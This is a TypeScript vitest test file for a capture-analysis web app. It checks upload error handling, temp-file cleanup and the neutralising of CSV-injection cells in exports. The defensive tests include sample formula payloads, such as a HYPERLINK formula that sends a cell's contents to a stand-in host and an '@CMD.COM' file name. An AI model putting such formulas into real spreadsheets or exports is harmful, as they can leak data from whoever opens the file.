import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callRuns, exchanges, stations } from '../../server/db/schema';
import { csvCell } from '../../server/http/csv';
import { openDb } from '../../server/db/client';
import { buildWorld, clockedVcd, closeWorld, seedDecodedCapture, tempDataDir, upload, type World } from './captures-helpers';
import { seedCallLayer } from './calls-helpers';
import { makeUser, rigBody, signedIn, testApp } from './helpers';

/** a CSV line split into cells (RFC 4180 quoting) */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      }
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      out.push(cell);
      cell = '';
    }
    else cell += ch;
  }
  out.push(cell);
  return out;
}

describe('uploads', () => {
  let w: World;
  beforeAll(async () => {
    w = await buildWorld();
  });
  afterAll(() => closeWorld(w));
  const tmpFiles = () => fs.readdirSync(path.join(w.env.dir, 'tmp'));

  it('answers a multipart body without a boundary with 400 and says what is wrong', async () => {
    const res = await w.analyst.agent
      .post(`/api/rigs/${w.rigId}/captures`)
      .set('x-csrf-token', w.analyst.csrf)
      .set('content-type', 'multipart/form-data')
      .send('--x\r\nContent-Disposition: form-data; name="file"; filename="a.vcd"\r\n\r\n$timescale 1ns $end\r\n--x--\r\n');
    expect(res.status).toBe(400);
    expect(res.body.error).toBe(
      'The upload is not a well-formed multipart/form-data body: its Content-Type names no multipart boundary. Send the capture as one file in the multipart field "file"',
    );
  });

  it('answers a truncated part with 400 and keeps no partial file', async () => {
    const head = '--BOUNDARY\r\nContent-Disposition: form-data; name="file"; filename="cut.vcd"\r\nContent-Type: application/octet-stream\r\n\r\n';
    const res = await w.analyst.agent
      .post(`/api/rigs/${w.rigId}/captures`)
      .set('x-csrf-token', w.analyst.csrf)
      .set('content-type', 'multipart/form-data; boundary=BOUNDARY')
      .send(head + clockedVcd(3).file.subarray(0, 2000).toString('latin1'));
    expect(res.status).toBe(400);
    expect(res.body.error).toMatch(/^The upload is not a well-formed multipart\/form-data body: the body ends in the middle of a part \(truncated\)/);
    expect(tmpFiles()).toEqual([]);
    expect((await w.viewer.get(`/api/rigs/${w.rigId}/captures`).expect(200)).body).toEqual([]);
  });

  it('keeps a non-ASCII file name as it was sent', async () => {
    const res = await upload(w.analyst, w.rigId, clockedVcd(3).file, 'Störung ÄÖÜ — 端末.vcd').expect(201);
    expect(res.body.name).toBe('Störung ÄÖÜ — 端末.vcd');
  });

  it('removes uploads a stopped server left in the temp folder when it starts', async () => {
    const env = tempDataDir();
    const tmp = path.join(env.dir, 'tmp');
    fs.mkdirSync(tmp, { recursive: true });
    const leftover = path.join(tmp, 'upload-from-a-killed-server');
    fs.writeFileSync(leftover, 'half a capture');
    const past = new Date(Date.now() - 3600_000);
    fs.utimesSync(leftover, past, past);
    // written after this process started: someone else's upload in progress, not a leftover
    const inProgress = path.join(tmp, 'upload-still-arriving');
    fs.writeFileSync(inProgress, 'arriving');
    const handle = openDb(env.dbPath);
    const app = await testApp({ db: handle, dataDir: env.dir });
    try {
      expect(fs.readdirSync(tmp)).toEqual(['upload-still-arriving']);
    } finally {
      await app.jobs.close();
      app.close();
      handle.close();
      env.cleanup();
    }
  });
});

describe('CSV exports', () => {
  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection guidance)', () => {
    // OWASP "CSV Injection": cells starting with = + - @ tab or carriage return
    expect(csvCell('=HYPERLINK("http://example.invalid","x")')).toBe(`"'=HYPERLINK(""http://example.invalid"",""x"")"`);
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('Desk A')).toBe('Desk A');
    expect(csvCell('a "quoted", name')).toBe('"a ""quoted"", name"');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell([3, 4])).toBe('3 4');
  });

  it('writes a station named like a formula as text in the frames and exchanges exports', async () => {
    const env = tempDataDir();
    const app = await testApp({ dataDir: env.dir });
    try {
      const ownerId = await makeUser(app, 'owner@example.test');
      const owner = await signedIn(app, 'owner@example.test');
      const db = app.db.db;
      const rigId = (await owner.post('/api/rigs', rigBody()).expect(201)).body.id as number;
      const formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Desk A")';
      db.insert(stations).values({ rigId, address: 0x21, name: formula, role: 'station' }).run();
      const { captureId } = seedDecodedCapture(app, rigId, env.dir, ownerId);
      seedCallLayer(app, rigId, captureId, ownerId);
      const runId = db.select({ id: callRuns.id }).from(callRuns).get()!.id;
      db.insert(exchanges)
        .values({ runId, captureId, station: 0x21, callCode: 15, callName: 'open file', fileName: '@CMD.COM', retryFrameIds: '[]', responseFrameIds: '[]', tRequest: 0.001, tRequestEnd: 0.002, outcome: 'unanswered', retries: 0 })
        .run();
      const base = `/api/rigs/${rigId}/captures/${captureId}`;

      const frames = (await owner.get(`${base}/export.csv?station=${0x21}`).expect(200)).text.trim().split('\n');
      const header = cells(frames[0]);
      const rows = frames.slice(1).map(cells);
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) expect(row[header.indexOf('station')]).toBe(`'${formula}`);

      const ex = (await owner.get(`${base}/exchanges/export.csv`).expect(200)).text.trim().split('\n');
      const exHeader = cells(ex[0]);
      const exRow = cells(ex[1]);
      expect(exRow[exHeader.indexOf('stationName')]).toBe(`'${formula}`);
      expect(exRow[exHeader.indexOf('fileName')]).toBe("'@CMD.COM");
      for (const line of [...frames.slice(1), ...ex.slice(1)]) for (const cell of cells(line)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    } finally {
      app.close();
      env.cleanup();
    }
  });
});
